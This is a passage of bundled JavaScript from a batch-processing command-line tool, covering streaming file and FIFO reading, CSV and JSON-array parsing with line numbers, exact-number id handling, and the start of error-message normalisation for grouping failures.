        super(`line ${line}: not valid UTF-8`);
        this.line = line;
    }
}
/**
 * Streams a file as batches of lines (one batch per read chunk, so the consumer pays one
 * await per chunk, not per line). Splits on bytes before decoding, so an invalid byte is
 * pinned to its line; strips a trailing CR and a leading UTF-8 BOM. The lines are bare
 * strings with the first one's number, not an object per line: at a million lines a pass,
 * the readers of JSON Lines, plain lines and CSV make their items straight from them.
 */
// eslint-disable-next-line max-lines-per-function -- one loop over each chunk's bytes; its state lives in locals the loop updates (the per-item hot path of reading)
async function* readLineBatches(path, signal, maxLineBytes = MAX_LINE_BYTES) {
    const decoder = new TextDecoder("utf-8", { fatal: true });
    let carry;
    const carryParts = [];
    let carryBytes = 0;
    let lineNumber = 0;
    const decodeLine = (bytes) => {
        lineNumber++;
        let end = bytes.length;
        if (end > 0 && bytes[end - 1] === 0x0d)
            end--;
        let start = 0;
        if (lineNumber === 1 && end >= 3 && bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf)
            start = 3;
        try {
            return decoder.decode(bytes.subarray(start, end));
        }
        catch {
            throw new InvalidUtf8Error(lineNumber);
        }
    };
    // The complete lines of a chunk are decoded in one call and split as a string: a
    // newline byte never occurs inside a UTF-8 sequence, so this is the same text as decoding
    // line by line, at a fraction of the cost. Only when the chunk is not valid UTF-8 are its
    // lines decoded one by one, to pin the error to its line. The per-line decoder strips a
    // leading BOM from every line it decodes; the chunk decoder keeps them, and the loop
    // strips them as decodeLine would.
    const chunkDecoder = new TextDecoder("utf-8", { fatal: true, ignoreBOM: true });
    const decodeLines = (bytes) => {
        let text;
        try {
            text = chunkDecoder.decode(bytes);
        }
        catch {
            return decodeLinesOneByOne(bytes);
        }
        const texts = text.split("\n");
        texts.pop(); // bytes end with a newline: the last piece is empty
        const firstLine = lineNumber + 1;
        for (let i = 0; i < texts.length; i++) {
            let line = texts[i];
            lineNumber++;
            if (line.charCodeAt(line.length - 1) === 0x0d)
                line = line.slice(0, -1);
            if (lineNumber === 1 && line.charCodeAt(0) === 0xfeff)
                line = line.slice(1);
            if (line.charCodeAt(0) === 0xfeff)
                line = line.slice(1);
            texts[i] = line;
        }
        return { texts, firstLine };
    };
    const decodeLinesOneByOne = (bytes) => {
        const texts = [];
        const firstLine = lineNumber + 1;
        let start = 0;
        for (;;) {
            const nl = bytes.indexOf(0x0a, start);
            if (nl === -1)
                break;
            texts.push(decodeLine(bytes.subarray(start, nl)));
            start = nl + 1;
        }
        return { texts, firstLine };
    };
    // The line being gathered must stay under the cap even before its newline arrives.
    const checkLength = (bytesBeforeNewline) => {
        if (bytesBeforeNewline > maxLineBytes)
            throw new LineTooLongError(lineNumber + 1);
    };
    for await (const chunk of chunksOf(path, signal)) {
        let data = chunk;
        if (carry) {
            // A long line spans many chunks: gather its pieces and join once, not once per chunk.
            const nl = data.indexOf(0x0a);
            checkLength(carryBytes + (nl === -1 ? data.length : nl));
            if (nl === -1) {
                carryParts.push(Buffer.from(data)); // a copy: the reader reuses its buffer
                carryBytes += data.length;
                continue;
            }
            data = Buffer.concat([carry, ...carryParts, data]);
            carry = undefined;
            carryParts.length = 0;
            carryBytes = 0;
        }
        const lastNl = data.lastIndexOf(0x0a);
        if (lastNl === -1) {
            checkLength(data.length);
            carry = Buffer.from(data);
            carryBytes = carry.length;
            continue;
        }
        const batch = decodeLines(data.subarray(0, lastNl + 1));
        if (lastNl + 1 < data.length) {
            carry = Buffer.from(data.subarray(lastNl + 1));
            carryBytes = carry.length;
        }
        if (batch.texts.length > 0)
            yield batch;
    }
    if (carry && carry.length + carryParts.length > 0) {
        const text = decodeLine(Buffer.concat([carry, ...carryParts]));
        yield { texts: [text], firstLine: lineNumber };
    }
}
/**
 * How much one read takes: 64 KiB. A chunk's lines become one batch of items that waits,
 * whole, for the pool to work through it; at 256 KiB a batch of plain lines was 20k items,
 * which outlived the young generation's collections and were copied into the old one. 64
 * KiB took 20-30 MB off the peak memory of 1M-item runs and resumes (lines: 169 → 136 MB;
 * JSON Lines: 194 → 171 MB) and up to a tenth off a run over plain lines, side by side;
 * 16 KiB saved no more and cost time.
 */
const READ_CHUNK_BYTES = 64 * 1024;
/**
 * The file's chunks until the signal aborts: checked per chunk (READ_CHUNK_BYTES), so a stop is
 * seen within a fraction of a second however long the input; and raced against each read,
 * because a pipe whose writer is silent (or a FIFO nobody opened for writing yet) blocks
 * the read itself, and destroying the stream waits for that read to return.
 */
async function* chunksOf(path, signal) {
    if (isRegularFile(path)) {
        yield* fileChunks(path, signal);
        return;
    }
    const stream = isFifo(path) ? await openPipe(path, signal) : (0,external_node_fs_.createReadStream)(path, { highWaterMark: READ_CHUNK_BYTES });
    if (!signal) {
        for await (const chunk of stream)
            yield chunk;
        return;
    }
    const chunks = stream[Symbol.asyncIterator]();
    let onAbort = () => { };
    const stopped = new Promise((_, reject) => {
        onAbort = () => reject(new ReadStoppedError());
        if (signal.aborted)
            onAbort();
        else
            signal.addEventListener("abort", onAbort, { once: true });
    });
    stopped.catch(() => { }); // observed through the race below
    try {
        for (;;) {
            const next = await Promise.race([chunks.next(), stopped]);
            if (next.done)
                return;
            yield next.value;
        }
    }
    finally {
        signal.removeEventListener("abort", onAbort);
        stream.destroy();
    }
}
/**
 * A regular file's chunks, read into one buffer over and over: each chunk is used up (its
 * lines decoded, a partial line copied) before the next read. A stream's new buffer per
 * chunk lived on, outside V8's heap, until a full collection, which that little heap
 * seldom needs: 70-80 MB of dead chunks by the end of a pass over a 70 MB file, a third of
 * a 1M-item resume's peak memory.
 *
 * Read synchronously: a regular file's read returns at once from the page cache, and
 * FileHandle.read's promise and thread hop per chunk cost more CPU than the stream did
 * (0.2-0.4 s per 1M-item run). The event loop gets a turn every YIELD_EVERY_CHUNKS
 * chunks, so a stop (SIGINT, SIGTERM) is seen within a few milliseconds of reading.
 */
async function* fileChunks(path, signal) {
    const fd = (0,external_node_fs_.openSync)(path, "r");
    const buffer = Buffer.allocUnsafeSlow(READ_CHUNK_BYTES);
    try {
        for (let chunk = 1;; chunk++) {
            if (chunk % YIELD_EVERY_CHUNKS === 0)
                await (0,promises_namespaceObject.setImmediate)();
            if (signal?.aborted)
                throw new ReadStoppedError();
            const bytesRead = (0,external_node_fs_.readSync)(fd, buffer, 0, buffer.length, null);
            if (bytesRead === 0)
                return;
            yield buffer.subarray(0, bytesRead);
        }
    }
    finally {
        (0,external_node_fs_.closeSync)(fd);
    }
}
/** fileChunks lets the event loop run once per this many chunks (1 MiB). */
const YIELD_EVERY_CHUNKS = 16;
/** A file that can be read twice (not a pipe, a FIFO or a device). A missing file counts as one: its read reports it. */
function isRegularFile(path) {
    try {
        return (0,external_node_fs_.statSync)(path).isFile();
    }
    catch {
        return true;
    }
}
function isFifo(path) {
    try {
        return (0,external_node_fs_.statSync)(path).isFIFO();
    }
    catch {
        return false; // the read reports the missing file
    }
}
/**
 * A FIFO or a pipe (`<(…)`, /dev/stdin) read as a socket: fs streams read it in a thread
 * of libuv's pool, blocked while the writer is silent, and Node's exit waits for that
 * thread, so a stopped run would hang until the writer spoke. Opening waits for a writer
 * too: a stop lets that open go by opening the FIFO for writing ourselves.
 */
async function openPipe(path, signal) {
    const letOpenGo = () => {
        try {
            (0,external_node_fs_.closeSync)((0,external_node_fs_.openSync)(path, external_node_fs_.constants.O_WRONLY | external_node_fs_.constants.O_NONBLOCK));
        }
        catch {
            // the open already returned
        }
    };
    // A stop that came before this read began has no event left to fire: without this check
    // the open below would wait for a writer that may never come.
    if (signal?.aborted)
        throw new ReadStoppedError();
    signal?.addEventListener("abort", letOpenGo, { once: true });
    let fd;
    try {
        fd = await new Promise((resolve, reject) => (0,external_node_fs_.open)(path, external_node_fs_.constants.O_RDONLY, (error, opened) => (error ? reject(error) : resolve(opened))));
    }
    finally {
        signal?.removeEventListener("abort", letOpenGo);
    }
    if (signal?.aborted) {
        (0,external_node_fs_.closeSync)(fd);
        throw new ReadStoppedError();
    }
    return new external_node_net_namespaceObject.Socket({ fd, readable: true, writable: false });
}

;// CONCATENATED MODULE: ./src/core/input/csv-source.ts



/**
 * Streams a CSV file (a header line, then records) as batches of records, each with the
 * line it starts on. Lines are decoded (and UTF-8 checked) by readLineBatches. A read error
 * (invalid UTF-8, a line over the cap, a stop) is thrown after the records before it.
 *
 * A line with no quote and no carriage return inside is one record of its comma-separated
 * fields: that is all csv-parse makes of it (no option this reader sets changes that), and
 * splitting it here costs a tenth of csv-parse with the line numbers turned on (15 s → a
 * fraction for a 1M-row file read twice). The first line that is not such a record — a
 * quoted field, which may hold commas and newlines, or a wrong number of fields — hands
 * the rest of the file to csv-parse, which parses it or reports it as it always did.
 */
async function* readCsvRecords(path, signal) {
    const lines = readLineBatches(path, signal)[Symbol.asyncIterator]();
    let columns;
    for (;;) {
        const next = await lines.next();
        if (next.done)
            return;
        const { texts, firstLine } = next.value;
        const batch = [];
        for (let i = 0; i < texts.length; i++) {
            const text = texts[i];
            if (text === "")
                continue; // skip_empty_lines, as csv-parse
            const line = firstLine + i;
            const fields = isPlainLine(text) ? text.split(",") : undefined;
            if (columns === undefined && fields !== undefined && line === 1)
                columns = fields;
            else if (columns !== undefined && fields !== undefined && fields.length === columns.length)
                batch.push({ record: recordOf(columns, fields), line });
            else {
                if (batch.length > 0)
                    yield batch;
                yield* parsedByCsvParse(columns, line, restOf(texts.slice(i), lines));
                return;
            }
        }
        if (batch.length > 0)
            yield batch;
    }
}
/** True when a line holds no quote and no carriage return: its fields are what lies between its commas. */
function isPlainLine(text) {
    return text.indexOf('"') === -1 && text.indexOf("\r") === -1;
}
/** The record as csv-parse builds it with `columns: true`: an object, later duplicate columns winning. */
function recordOf(columns, fields) {
    const record = {};
    for (let i = 0; i < columns.length; i++)
        record[columns[i]] = fields[i];
    return record;
}
async function* restOf(first, lines) {
    yield first;
    for (;;) {
        const next = await lines.next();
        if (next.done)
            return;
        yield next.value.texts;
    }
}
/**
 * csv-parse from line `fromLine` on. It is given the header line first (when it was read
 * already), then empty lines up to `fromLine` (skipped, but counted), so the line numbers
 * it reports — in its records' info and its own error messages — are the file's.
 */
async function* parsedByCsvParse(columns, fromLine, lines) {
    async function* text() {
        const emptyLines = "\n".repeat(fromLine - 1);
        yield columns === undefined ? emptyLines : columns.join(",") + emptyLines;
        for await (const texts of lines)
            yield texts.join("\n") + "\n";
    }
    const source = external_node_stream_namespaceObject.Readable.from(text());
    const parser = source.pipe(lib_parse({ columns: true, bom: true, skip_empty_lines: true, info: true }));
    // pipe() does not forward errors: an invalid UTF-8 line must end the parse, not hang it.
    source.on("error", (error) => parser.destroy(error));
    let batch = [];
    try {
        for await (const row of parser) {
            // info.lines is the line the record ends on; each newline inside a quoted field
            // moves its start one line up (the reader turned CRLF into LF).
            let startLine = row.info.lines;
            for (const value of Object.values(row.record)) {
                if (typeof value === "string")
                    startLine -= value.split("\n").length - 1;
            }
            batch.push({ record: row.record, line: startLine });
            if (batch.length >= 1000) {
                yield batch;
                batch = [];
            }
        }
    }
    catch (error) {
        if (batch.length > 0)
            yield batch;
        if (error instanceof InvalidUtf8Error || error instanceof LineTooLongError || error instanceof ReadStoppedError)
            throw error;
        const e = error;
        yield [{ problem: { line: e.lines ?? 0, message: `CSV: ${e.message}` } }];
        return;
    }
    if (batch.length > 0)
        yield batch;
}

;// CONCATENATED MODULE: ./src/core/input/json-array-splitter.ts
/**
 * Failed tries of the one-element-a-line path after which a file is split character by
 * character only: a file laid out otherwise (elements spanning lines) then pays for at
 * most this many failed JSON.parse calls.
 */
const MAX_LINE_PARSE_MISSES = 1000;
/**
 * Splits a top-level JSON array into the text of its elements, streaming, so a file of
 * millions of items is never parsed as one value (which would hold it in memory twice)
 * and each element keeps the line it starts on for error messages. It tracks only
 * strings and bracket depth; each element's text is then checked by JSON.parse.
 *
 * The usual layout, one object a line followed by a comma (`jq`, `JSON.stringify` of rows
 * joined with ",\n"), is taken a line at a time: when the line holds exactly one valid
 * JSON value before its last comma, that value is the element the character loop would
 * have found (inside a valid value no comma or bracket closes it early), and the loop,
 * which cost a native parse's time again in JavaScript, is skipped for it.
 */
function splitJsonArray(lines, 
/** Try a line at a time first (off: the character loop alone, to compare against). */
wholeLines = true) {
    return splitJsonArrayInto(lines, AS_ELEMENTS, wholeLines);
}
const AS_ELEMENTS = {
    text: (text, line) => ({ text, line }),
    parsed: (text, line, value) => ({ text, line, value }),
    problem: (problem) => ({ problem }),
};
/** splitJsonArray, each element and problem made by `make`. */
// eslint-disable-next-line max-lines-per-function -- one state machine over each chunk's characters; its state lives in locals the loop updates (per-character hot path)
async function* splitJsonArrayInto(lines, make, wholeLines = true) {
    let phase = "before";
    let depth = 0;
    let inString = false;
    let escaped = false;
    let parts = [];
    let elementLine = 0;
    let lastLine = 0;
    let expectElement = true;
    let lineParseMisses = wholeLines ? 0 : MAX_LINE_PARSE_MISSES;
    for await (const { texts, firstLine } of lines) {
        const out = [];
        for (let lineIndex = 0; lineIndex < texts.length; lineIndex++) {
            const text = texts[lineIndex];
            const line = firstLine + lineIndex;
            lastLine = line;
            if (phase === "between" && expectElement && lineParseMisses < MAX_LINE_PARSE_MISSES) {
                const start = skipBlanks(text);
                const end = wholeLineEnd(text, start);
                if (end !== -1) {
                    const elementText = text.slice(start, end);
                    let value;
                    try {
                        value = JSON.parse(elementText);
                    }
                    catch {
                        value = NOT_PARSED;
                    }
                    if (value !== NOT_PARSED) {
                        out.push(make.parsed(elementText, line, value));
                        elementLine = line;
                        continue;
                    }
                    lineParseMisses++; // looked like one, did not parse: the character loop takes the line
                }
            }
            let segmentStart = phase === "element" ? 0 : -1;
            for (let i = 0; i < text.length; i++) {
                const c = text.charCodeAt(i);
                if (phase === "element") {
                    if (inString) {
                        if (escaped)
                            escaped = false;
                        else if (c === 0x5c)
                            escaped = true;
                        else if (c === 0x22)
                            inString = false;
                        continue;
                    }
                    if (c === 0x22)
                        inString = true;
                    else if (c === 0x7b || c === 0x5b)
                        depth++;
                    else if ((c === 0x7d || c === 0x5d) && depth > 0)
                        depth--;
                    else if ((c === 0x2c || c === 0x5d) && depth === 0) {
                        parts.push(text.slice(segmentStart, i));
                        out.push(make.text(parts.join("\n"), elementLine));
                        parts = [];
                        segmentStart = -1;
                        phase = c === 0x2c ? "between" : "after";
                        expectElement = c === 0x2c;
                    }
                    continue;
                }
                if (c === 0x20 || c === 0x09)
                    continue;
                if (phase === "before") {
                    if (c !== 0x5b) {
                        out.push(make.problem({ line, message: "expected a JSON array of items ('[' first); use --items-format jsonl for one object a line" }));
                        yield out;
                        return;
                    }
                    phase = "between";
                    expectElement = true;
                }
                else if (phase === "between") {
                    if (c === 0x5d && !expectElement) {
                        phase = "after";
                    }
                    else if (c === 0x5d && expectElement && parts.length === 0 && elementLine === 0) {
                        phase = "after"; // the empty array []
                    }
                    else if (c === 0x2c) {
                        out.push(make.problem({ line, message: "unexpected ',' in the array (an empty element?)" }));
                    }
                    else {
                        phase = "element";
                        elementLine = line;
                        segmentStart = i;
                        depth = 0;
                        i--; // let the element branch see this character
                    }
                }
                else {
                    out.push(make.problem({ line, message: "unexpected text after the end of the JSON array" }));
                    yield out;
                    return;
                }
            }
            if (phase === "element")
                parts.push(text.slice(segmentStart === -1 ? 0 : segmentStart));
        }
        if (out.length > 0)
            yield out;
    }
    if (phase === "before")
        return; // an empty file: no items
    if (phase !== "after") {
        yield [make.problem({ line: lastLine, message: "the JSON array is not closed (the file is truncated?)" })];
    }
}
/** A value JSON.parse never returns: the line did not parse. */
const NOT_PARSED = Symbol("not parsed");
/** Where the line's text starts after spaces and tabs. */
function skipBlanks(text) {
    let start = 0;
    while (start < text.length && isBlank(text.charCodeAt(start)))
        start++;
    return start;
}
/**
 * When the line looks like one JSON object and a comma from `start` (spaces and tabs
 * after them allowed): the end of the object's text; else -1.
 */
function wholeLineEnd(text, start) {
    if (text.charCodeAt(start) !== 0x7b)
        return -1;
    let end = text.length - 1;
    while (end > start && isBlank(text.charCodeAt(end)))
        end--;
    return text.charCodeAt(end) === 0x2c ? end : -1;
}
function isBlank(c) {
    return c === 0x20 || c === 0x09;
}

;// CONCATENATED MODULE: ./src/core/input/json-source-text.ts
/**
 * The source text of one number in a JSON text, found by its field path, without parsing
 * the text again: JSON.parse turns 9007199254740993 into 9007199254740992 (and 1.0 into 1),
 * and Node 20's JSON.parse cannot hand out the source text of a value. A numeric id keeps
 * the digits it was written with, so two large ids that round to one double stay two ids.
 */
/** The text of the number at `path` (a top-level key, or nested keys), or undefined. */
function numberTextAt(json, path) {
    let i = skipSpace(json, 0);
    for (const key of path) {
        if (json.charCodeAt(i) !== 0x7b)
            return undefined; // not an object
        i = findKey(json, i + 1, key);
        if (i < 0)
            return undefined;
    }
    const start = i;
    while (i < json.length && isNumberChar(json.charCodeAt(i)))
        i++;
    return i > start ? json.slice(start, i) : undefined;
}
/** From just inside an object, the start of the value of `key` (the last one if repeated, as JSON.parse keeps), or -1. */
function findKey(json, from, key) {
    let found = -1;
    let i = skipSpace(json, from);
    while (i < json.length && json.charCodeAt(i) === 0x22) {
        const keyEnd = skipString(json, i);
        const name = JSON.parse(json.slice(i, keyEnd));
        i = skipSpace(json, keyEnd);
        if (json.charCodeAt(i) !== 0x3a)
            return -1;
        i = skipSpace(json, i + 1);
        if (name === key)
            found = i;
        i = skipSpace(json, skipValue(json, i));
        if (json.charCodeAt(i) !== 0x2c)
            break;
        i = skipSpace(json, i + 1);
    }
    return found;
}
/** The index just past the value starting at `i` (the text was parsed already: it is valid). */
function skipValue(json, i) {
    const c = json.charCodeAt(i);
    if (c === 0x22)
        return skipString(json, i);
    if (c !== 0x7b && c !== 0x5b) {
        while (i < json.length && !isValueEnd(json.charCodeAt(i)))
            i++;
        return i;
    }
    let depth = 0;
    for (; i < json.length; i++) {
        const d = json.charCodeAt(i);
        if (d === 0x22)
            i = skipString(json, i) - 1;
        else if (d === 0x7b || d === 0x5b)
            depth++;
        else if ((d === 0x7d || d === 0x5d) && --depth === 0)
            return i + 1;
    }
    return i;
}
/** The index just past the string starting at `i` (its opening quote). */
function skipString(json, i) {
    for (i++; i < json.length; i++) {
        const c = json.charCodeAt(i);
        if (c === 0x5c)
            i++;
        else if (c === 0x22)
            return i + 1;
    }
    return i;
}
function skipSpace(json, i) {
    while (i < json.length) {
        const c = json.charCodeAt(i);
        if (c !== 0x20 && c !== 0x09 && c !== 0x0a && c !== 0x0d)
            break;
        i++;
    }
    return i;
}
function isValueEnd(c) {
    return c === 0x2c || c === 0x7d || c === 0x5d || c === 0x20 || c === 0x09 || c === 0x0a || c === 0x0d;
}
function isNumberChar(c) {
    return (c >= 0x30 && c <= 0x39) || c === 0x2d || c === 0x2b || c === 0x2e || c === 0x65 || c === 0x45;
}

;// CONCATENATED MODULE: ./src/core/input/exact-json.ts
/**
 * The item's JSON as the input wrote it, when writing its parsed value again would change
 * it (a number past a double's precision, 1.0, 1e3, -0); undefined when JSON.stringify of
 * the data says the same. Commands, workers and stored failures take this text, so a
 * handler gets the item exactly as it was written (issue 12 §5).
 *
 * Asked only where an item is written out as JSON: testing every item as it was read cost
 * about a tenth of a 1M-item run of a module, which never needs it.
 */
function exactJson(item) {
    return item.raw !== undefined && NUMBER_REWRITTEN_DIFFERENTLY.test(item.raw) ? item.raw : undefined;
}
/** The item as it should be kept for later (a retained or stored item): its text only when exactJson needs it. */
function withExactJsonOnly(item) {
    if (item.raw === undefined || NUMBER_REWRITTEN_DIFFERENTLY.test(item.raw))
        return item;
    return { id: item.id, data: item.data, line: item.line };
}
/**
 * Text that may hold a number JSON.stringify would write differently than the source: 16 or
 * more digits in a row (past a double's precision), a fraction or an exponent (1.0, 1e3),
 * or -0. A number of at most 15 digits without either comes back as it was written.
 *
 * Only numbers are looked at: in an object a number follows a colon, a comma or a bracket
 * (and JSON whitespace), so the search starts at those, not at every digit — the ids and
 * urls of an item are full of digits, and starting at each cost 2.5× as much (0.28 s → 0.12 s
 * per pass over 1M lines). A string holding such a colon and number (`"a:1.5"`) keeps its
 * text without need, which is harmless.
 */
const NUMBER_REWRITTEN_DIFFERENTLY = /[:,[][ \t\n\r]*(?:-0(?![\d.eE])|-?\d(?:\d{15}|\d*[.eE]))/;

;// CONCATENATED MODULE: ./src/core/platform/well-formed.ts
/**
 * String.prototype.isWellFormed (Node 20+): no lone surrogate. Native, and several times
 * faster than the equivalent regular expression on the per-item path.
 */
function isWellFormed(text) {
    return text.isWellFormed();
}

;// CONCATENATED MODULE: ./src/core/input/item-source.ts







const ITEMS_FORMATS = ["jsonl", "json", "csv", "lines"];
/** The format a file's extension implies: .jsonl/.ndjson, .json, .csv, else one item per line. */
function formatForPath(path) {
    switch ((0,external_node_path_.extname)(path).toLowerCase()) {
        case ".jsonl":
        case ".ndjson":
            return "jsonl";
        case ".json":
            return "json";
        case ".csv":
            return "csv";
        default:
            return "lines";
    }
}
/**
 * Streams a source as batches of entries. Problems (malformed JSON, a missing id, invalid
 * UTF-8, a broken CSV row) are entries too, so a caller can list all of them with their
 * lines instead of stopping at the first.
 */
async function* readSource(spec, signal) {
    try {
        switch (spec.format) {
            case "lines":
            case "jsonl":
                yield* readLineItems(spec, signal);
                return;
            case "json":
                yield* splitJsonArrayInto(readLineBatches(spec.path, signal), jsonArrayEntries(spec.idField));
                return;
            case "csv":
                yield* readCsv(spec, signal);
                return;
        }
    }
    catch (error) {
        const problem = readProblem(error, spec.format);
        if (!problem)
            throw error;
        yield [{ problem }];
    }
}
/** The problem a read error stands for (the read ends there), or undefined for other errors. */
function readProblem(error, format) {
    if (error instanceof InvalidUtf8Error)
        return { line: error.line, message: "not valid UTF-8 (re-encode the file as UTF-8)" };
    if (error instanceof LineTooLongError) {
        const hint = format === "json"
            ? "a JSON array this large must have its elements on lines of their own (`jq -c '.[]'` turns it into JSON Lines)"
            : "an item is one line: is this the right file and --items-format?";
        return {
            line: error.line,
            message: `the line is longer than ${MAX_LINE_BYTES / (1024 * 1024)} MiB (MAX_LINE_BYTES), the longest line read; ${hint}`,
        };
    }
    return undefined;
}
/** Plain lines (the line is the id and the item) or JSON Lines, blank lines skipped. */
async function* readLineItems(spec, signal) {
    const json = spec.format === "jsonl";
    for await (const { texts, firstLine } of readLineBatches(spec.path, signal)) {
        const batch = [];
        for (let i = 0; i < texts.length; i++) {
            const text = texts[i];
            if (text.trim() === "")
                continue;
            batch.push(json ? jsonEntry(text, firstLine + i, spec.idField) : { item: { id: text, data: text, line: firstLine + i } });
        }
        yield batch;
    }
}
function jsonEntry(text, line, idField) {
    let data;
    try {
        data = JSON.parse(text);
    }
    catch (error) {
        return { problem: { line, message: `not valid JSON (${error.message})` } };
    }
    // The text is kept on every item (the string exists anyway); whether a handler needs it
    // instead of the parsed value is asked only when one writes the item out (exactJson).
    return withId(data, line, idField, text);
}
/** A JSON array's elements as entries, made as the splitter finds them. */
function jsonArrayEntries(idField) {
    return {
        text: (text, line) => jsonEntry(text, line, idField),
        parsed: (text, line, value) => withId(value, line, idField, text),
        problem: (problem) => ({ problem }),
    };
}
/** @param raw the item's JSON as written (JSON Lines, JSON arrays): numeric ids keep its digits, handlers may take it (exactJson) */
function withId(data, line, idField, raw) {
    if (typeof data !== "object" || data === null || Array.isArray(data)) {
        return { problem: { line, message: `an item must be a JSON object with an '${idField}' field, not ${describe(data)}` } };
    }
    const value = fieldValue(data, idField);
    if (typeof value === "string" && value !== "") {
        // A lone surrogate is no character; JSON can spell it (`"\ud800"`), but each turns into
        // the same U+FFFD in UTF-8 (environment, files, the journal): `x\ud800`, `x\udc00` and
        // `x\ufffd` would be one id.
        if (!isWellFormed(value))
            return {
                problem: {
                    line,
                    message: `the '${idField}' value is not well-formed Unicode (a lone surrogate escape like \\ud800): such ids would share one ITEM_ID and idempotency key; fix the escape`,
                },
            };
        return { item: raw === undefined ? { id: value, data, line } : { id: value, data, line, raw } };
    }
    if (typeof value === "number" && Number.isFinite(value)) {
        // The digits as written: 9007199254740993 is not the double 9007199254740992.
        const path = idField in data ? [idField] : idField.split(".");
        const id = (raw !== undefined && NUMBER_REWRITTEN_DIFFERENTLY.test(raw) ? numberTextAt(raw, path) : undefined) ?? String(value);
        return { item: raw === undefined ? { id, data, line } : { id, data, line, raw } };
    }
    if (value === undefined)
        return { problem: { line, message: `no '${idField}' field (choose the id field with --id-field / id-field)` } };
    return { problem: { line, message: `the '${idField}' field must be a non-empty string or a number, not ${describe(value)}` } };
}
/** Reads `a.b.c` as a nested path when there is no literal key of that name. */
function fieldValue(data, field) {
    if (field in data)
        return data[field];
    if (!field.includes("."))
        return undefined;
    let current = data;
    for (const part of field.split(".")) {
        if (typeof current !== "object" || current === null)
            return undefined;
        current = current[part];
    }
    return current;
}
function describe(value) {
    if (value === null)
        return "null";
    if (Array.isArray(value))
        return "an array";
    if (typeof value === "string")
        return value === "" ? "an empty string" : "a string";
    return `a ${typeof value}`;
}
async function* readCsv(spec, signal) {
    let checkedHeader = false;
    for await (const entries of readCsvRecords(spec.path, signal)) {
        const batch = [];
        for (const entry of entries) {
            if (entry.problem) {
                batch.push({ problem: entry.problem });
                continue;
            }
            if (!checkedHeader) {
                checkedHeader = true;
                if (!(spec.idField in entry.record)) {
                    const columns = Object.keys(entry.record).join(", ");
                    yield [
                        {
                            problem: { line: 1, message: `no '${spec.idField}' column in the header (columns: ${columns}); choose one with --id-field / id-field` },
                        },
                    ];
                    return;
                }
            }
            batch.push(withId(entry.record, entry.line, spec.idField));
        }
        if (batch.length > 0)
            yield batch;
    }
}

;// CONCATENATED MODULE: ./src/core/config/pass-settings.ts

/** A boolean setting: true, false or absent (the CLI gives true for a bare flag). */
function booleanSetting(reader, key) {
    const text = reader.text(key);
    if (text !== undefined && text !== "true" && text !== "false")
        throw new ConfigError(`${reader.nameOf(key)}: '${text}' must be true or false`);
    return reader.isTrue(key);
}
/** repeat, new-pass, reprocess-changed and version-field. */
function parsePassSettings(reader, retryFailures) {
    const { nameOf } = reader;
    const repeatText = reader.text("repeat");
    const repeatMs = repeatText === "none" ? undefined : reader.positiveDuration("repeat");
    const newPass = booleanSetting(reader, "new-pass");
    if (newPass && retryFailures) {
        throw new ConfigError(`give ${nameOf("new-pass")} or ${nameOf("retry-failures")}, not both: a new pass attempts every item again, failed ones included`);
    }
    const versionField = reader.text("version-field");
    return {
        repeatMs,
        newPass,
        reprocessChanged: booleanSetting(reader, "reprocess-changed"),
        ...(versionField === undefined ? {} : { versionField }),
    };
}

;// CONCATENATED MODULE: external "node:fs/promises"
const external_node_fs_promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs/promises");
;// CONCATENATED MODULE: ./src/core/state/failure-groups.ts
/** Longest cause returned by `normaliseCause`, in UTF-16 code units (the last one is `…`). */
const MAX_CAUSE_LENGTH = 200;
/**
 * Only this much of a message is looked at. Error messages can be the tail of a command's
 * stderr; normalising megabytes per item would make grouping slow, and the cause is capped
 * at `MAX_CAUSE_LENGTH` anyway.
 */
const MAX_INPUT_LENGTH = 600;
/** Messages up to this length are normalised once per distinct text in `groupFailures`. */
const MEMO_MAX_LENGTH = 500;
/** Default number of example ids kept per group. */
const DEFAULT_GROUP_EXAMPLES = 3;
const UUID_RE = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
const HEX_RE = /^(?:0x[0-9a-f]+|(?=[0-9a-f]*[0-9])(?=[0-9a-f]*[a-f])[0-9a-f]{7,})$/i;
/**
 * One left-to-right pass over the message. Each alternative is a capture group; the first
 * alternative that matches at a position wins, and text a placeholder replaced is never
 * looked at again (so digits in a URL's host are not turned into `<n>` afterwards).
 *
 * Token-start lookbehinds (`(?<![A-Za-z0-9])`) keep the scan linear: an alternative is only
 * tried at the start of a token, not at every character inside it.
 */
const TOKENS = [
    // ANSI colour codes from a terminal's stderr: dropped.
    ["ansi", String.raw `\x1b\[[0-9;?]*[A-Za-z]`],
    // URLs: scheme://host/path?query — the host is kept, variable segments are folded.
    ["url", String.raw `(?<![A-Za-z0-9+.-])[A-Za-z][A-Za-z0-9+.-]{0,15}:\/\/[^\s"'\x60<>]+`],
    // Email addresses.
    ["email", String.raw `(?<![A-Za-z0-9._%+-])[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+`],
    // Status and exit codes are kept: "HTTP 404" and "HTTP 500" are different causes, and so
    // are "exit code 1" and "exit code 75".
    [
        "code",
        String.raw `\b(?:HTTP(?:\/\d(?:\.\d)?)?|status(?: code)?|exit(?:ed with)?(?: code| status)?|code|signal|errno)[ \t]*[:=#]?[ \t]*\d{1,3}(?![0-9])`,
    ],
    ["uuid", String.raw `(?<![A-Za-z0-9])[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}(?![A-Za-z0-9])`],
    // ISO 8601 dates and timestamps (before numbers, which would cut them into pieces).
    ["time", String.raw `(?<![0-9])\d{4}-\d{2}-\d{2}(?:[T ]\d{2}:\d{2}(?::\d{2}(?:[.,]\d+)?)?)?(?:Z|[+-]\d{2}:?\d{2}(?![0-9]))?`],
    // Quoted values. A single quote only opens at a token start and closes at a token end,
    // so apostrophes ("can't", "user's") are left alone.
    ["quote", String.raw `"[^"\n]{0,300}"`],
    ["quote", String.raw `\x60[^\x60\n]{0,300}\x60`],
    ["quote", String.raw `(?<![A-Za-z0-9])'[^'\n]{0,300}'(?![A-Za-z0-9])`],
    // Hex: 0x… or 7+ hex digits mixing letters and digits (short git SHAs, request ids).
